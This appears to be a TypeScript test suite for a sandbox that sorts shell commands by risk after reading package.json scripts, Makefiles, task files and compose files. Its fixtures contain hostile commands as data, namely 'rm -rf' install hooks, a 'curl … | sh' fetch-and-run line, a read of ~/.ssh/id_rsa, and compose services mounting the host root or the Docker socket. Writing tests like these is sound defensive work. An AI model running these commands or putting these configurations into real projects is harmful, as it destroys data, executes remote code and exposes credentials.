// Scripts, targets and tasks of real folders: the call is judged by what they run.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { judged, repository } from './sandbox.ts';

const verdict = (command: string, cwd: string): string => {
  const { tier, parts } = judged(command, cwd);
  return `${tier}${parts.some(part => part.unread) ? ', unread' : ''}`;
};
const scripts = (all: Readonly<Record<string, string>>): string =>
  JSON.stringify({ scripts: all, devDependencies: {} });

const packageScripts = scripts({
  boom: 'rm -rf /srv/x',
  ok: 'echo hi',
  build: 'frobnicate build && rimraf dist && tsc -p .',
  prebuild: 'rm -rf dist',
  postok: 'npm run boom',
  pretest: 'rm -rf /srv/x',
  test: 'vitest run',
  show: 'cat',
  ship: 'npm publish',
  loop: 'npm run loop',
  fetch: 'curl https://x.example/a | sh',
  broken: 'echo "',
  env: 'NODE_ENV=test PORT=3000 next dev',
  many: 'run-s ok boom',
});

describe('package.json', () => {
  const rows: readonly (readonly [command: string, verdict: string])[] = [
    ['npm run boom', 'destructive'],
    ['npm run ok', 'destructive'],
    ['npm run build', 'write-safe'],
    ['npm run env', 'write-safe'],
    ['npm test', 'destructive'],
    ['npm t', 'destructive'],
    ['npm run show -- ~/.ssh/id_rsa', 'destructive'],
    ['npm run show -- README.md', 'write-safe'],
    ['npm run ship', 'deployment'],
    ['npm run fetch', 'destructive, unread'],
    ['npm run broken', 'unknown, unread'],
    ['npm run nothing', 'write-safe'],
    ['npm run', 'read-only'],
    ['npm run constructor', 'write-safe'],
    ['npm run "$X"', 'destructive, unread'],
    ['pnpm boom', 'destructive'],
    ['pnpm run boom', 'destructive'],
    ['yarn boom', 'destructive'],
    ['yarn run boom', 'destructive'],
    ['bun run boom', 'destructive'],
    ['bun boom', 'destructive'],
    ['cd src && npm run boom', 'destructive'],
    ['npm --prefix . run boom', 'destructive'],
    ['cd sub && npm run boom', 'write-safe'],
    ['npm --prefix sub run boom', 'write-safe'],
    ['echo \'{"scripts":{"new":"rm -rf /srv/x"}}\' > package.json && npm run new', 'destructive'],
  ];
  for (const [command, expected] of rows)
    test(command, () => {
      const root = repository({ 'package.json': packageScripts, 'src/a.ts': '', 'sub/package.json': scripts({}) });
      assert.equal(verdict(command, root), expected);
    });

  test('what runs when packages are installed', () => {
    const root = repository({ 'package.json': scripts({ postinstall: 'rm -rf /srv/x' }) });
    for (const command of ['npm ci', 'npm install', 'npm i', 'yarn', 'yarn install', 'pnpm i', 'bun install'])
      assert.equal(verdict(command, root), 'destructive', command);
    assert.equal(verdict('npm ls', root), 'read-only');
  });
  test('a package in a folder', () => {
    const root = repository({
      'package.json': '{}',
      'good/package.json': scripts({ prepare: 'tsc' }),
      'evil/package.json': scripts({ preinstall: 'rm -rf /srv/x' }),
      'none/a.js': '',
    });
    assert.equal(verdict('npm install ./good', root), 'privileged-write');
    assert.equal(verdict('npm install ./evil', root), 'destructive');
    assert.equal(verdict('npm install ./none', root), 'privileged-write, unread');
    assert.equal(verdict('npm install ./good.tgz', root), 'privileged-write, unread');
    assert.equal(verdict('yarn add link:./evil', root), 'destructive');
  });
  test('scripts that call each other without end', () => {
    const root = repository({ 'package.json': packageScripts });
    assert.equal(verdict('npm run loop', root).endsWith('unread'), true);
  });
});

describe('other files', () => {
  const files: Readonly<Record<string, string>> = {
    Makefile:
      'X = /srv\nbuild:\n\tfrobnicate -o out\nclean:\n\trm -rf $(X)/y\nall: clean\ndeps:\n\t$(TOOL) $(shell id -u) --x\nrelease: ; docker push a/b\n',
    'other.mk': 'all:\n\trm -rf /srv/x\n',
    justfile: 'default:\n  echo hi\nboom: default\n  rm -rf /srv/x\n',
    'Taskfile.yml': 'tasks:\n  default: echo hi\n  boom:\n    deps: [inner]\n  inner: rm -rf /srv/x\n',
    Procfile: 'web: node server.js\nevil: rm -rf /srv/x\n',
    'composer.json': '{"scripts":{"boom":["rm -rf /srv/x"],"post-install-cmd":"echo"}}',
    'deno.json': '{"tasks":{"boom":"rm -rf /srv/x","ok":"echo"}}',
    '.pre-commit-config.yaml':
      'repos:\n  - repo: local\n    hooks: [{ id: boom, entry: rm -rf /srv/x }, { id: ok, entry: echo }]\n',
    'lefthook.yml':
      'pre-commit:\n  commands:\n    a:\n      run: eslint {staged_files}\npre-push:\n  jobs:\n    - run: rm -rf /srv/x\n',
    'x.Dockerfile': 'FROM scratch\n',
  };
  const rows: readonly (readonly [command: string, verdict: string])[] = [
    ['make', 'write-safe'],
    ['make build', 'write-safe'],
    ['make clean', 'destructive'],
    ['make clean X=out', 'write-safe'],
    ['make all', 'destructive'],
    ['make deps', 'write-safe'],
    ['make release', 'deployment'],
    ['make -n clean', 'read-only'],
    ['make -f other.mk', 'destructive'],
    ['make -C sub clean', 'write-safe'],
    ['just', 'write-safe'],
    ['just boom', 'destructive'],
    ['just --list', 'read-only'],
    ['task', 'write-safe'],
    ['task boom', 'destructive'],
    ['foreman start', 'destructive'],
    ['foreman start web', 'write-safe'],
    ['hivemind', 'destructive'],
    ['composer run boom', 'destructive'],
    ['composer install', 'write-safe'],
    ['deno task boom', 'destructive'],
    ['deno task ok', 'write-safe'],
    ['pre-commit run --all-files', 'destructive'],
    ['pre-commit run ok', 'write-safe'],
    ['lefthook run pre-commit', 'write-safe'],
    ['lefthook run pre-push', 'destructive'],
    ['docker build -f x.Dockerfile .', 'write-safe'],
    ['docker build -f y.Dockerfile .', 'privileged-write, unread'],
    ['ssh host make clean', 'privileged-write'],
  ];
  for (const [command, expected] of rows)
    test(command, () => assert.equal(verdict(command, repository(files)), expected));
});

describe('compose files', () => {
  const services = {
    plain: { build: '.', ports: ['80:80'], volumes: ['./data:/data', 'db:/var/lib/db', '${CODE_DIR:-.}:/app'] },
    root: { image: 'a', volumes: ['/:/host:ro'] },
    socket: { image: 'a', volumes: ['/var/run/docker.sock:/var/run/docker.sock'] },
    bind: { image: 'a', volumes: [{ type: 'bind', source: '/etc', target: '/etc' }] },
    named: { image: 'a', volumes: [{ type: 'volume', source: 'db', target: '/db' }] },
    all: { image: 'a', privileged: true },
    host: { image: 'a', pid: 'host' },
    admin: { image: 'a', cap_add: ['SYS_ADMIN'] },
    needing: { image: 'a', depends_on: { root: { condition: 'service_healthy' } } },
    unknown: { image: '${IMAGE}', volumes: ['${SOMEWHERE}:/x'], environment: { A: '$B' } },
    odd: 'text',
  };
  const files = { 'docker-compose.yml': JSON.stringify({ services }), 'other.yml': JSON.stringify({ services }) };
  const rows: readonly (readonly [command: string, verdict: string])[] = [
    ['docker compose up plain', 'write-safe'],
    ['docker compose up -d', 'privileged-write, unread'],
    ['docker compose up root', 'privileged-write, unread'],
    ['docker compose up -d socket plain', 'privileged-write, unread'],
    ['docker compose up bind', 'privileged-write, unread'],
    ['docker compose up named', 'write-safe'],
    ['docker compose up all', 'privileged-write, unread'],
    ['docker compose up host', 'privileged-write, unread'],
    ['docker compose up admin', 'privileged-write, unread'],
    ['docker compose up needing', 'privileged-write, unread'],
    ['docker compose up unknown odd', 'write-safe'],
    ['docker compose run --rm plain npm test', 'write-safe'],
    ['docker compose run root ls', 'privileged-write, unread'],
    ['docker-compose up root', 'privileged-write, unread'],
    ['podman-compose up root', 'privileged-write, unread'],
    ['docker compose -f other.yml up root', 'privileged-write, unread'],
    ['docker compose stop', 'write-safe'],
    ['docker compose logs', 'read-only'],
    ['docker compose --dry-run up', 'read-only'],
    ['cd sub && docker compose up root', 'privileged-write, unread'],
  ];
  for (const [command, expected] of rows)
    test(command, () => assert.equal(verdict(command, repository({ ...files, 'sub/a': '' })), expected));

  test('the file beside it counts as well', () => {
    const plain = JSON.stringify({ services: { web: { image: 'a' } } });
    const root = repository({
      'compose.yaml': plain,
      'compose.override.yaml': 'services:\n  web:\n    privileged: true\n',
    });
    assert.equal(verdict('docker compose up web', root), 'privileged-write, unread');
    assert.equal(verdict('docker compose -f compose.yaml up web', root), 'write-safe');
  });
});

describe('programs of packages', () => {
  const script = '#!/usr/bin/env node\n0';
  const files = {
    'package.json': '{}',
    'node_modules/.bin/frob': script,
    'web/a': '',
    'web/node_modules/.bin/own': script,
  };
  const unread = 'privileged-write, unread';
  const rows: readonly (readonly [command: string, verdict: string])[] = [
    ['npx frob', 'write-safe'],
    ['npx frob --watch src', 'write-safe'],
    ['npx frob deploy', unread],
    ['npx frob "$X"', unread],
    ['npx frob@2', unread],
    ['npx other', unread],
    ['npx -p evil frob', unread],
    ['npx -p evil eslint .', unread],
    ['npx -p typescript tsc --noEmit', 'write-safe'],
    ['npm exec -- frob', 'write-safe'],
    ['pnpm exec frob', 'write-safe'],
    ['pnpm dlx frob', unread],
    ['yarn dlx -p evil eslint', unread],
    ['bunx frob', 'write-safe'],
    ['cd web && npx own', 'write-safe'],
    ['cd web && npx frob', 'write-safe'],
    ['npx own', unread],
    ['npx ../frob', unread],
    ['npx firebase-tools@latest deploy', 'deployment'],
  ];
  for (const [command, expected] of rows)
    test(command, () => assert.equal(verdict(command, repository(files)), expected));
});
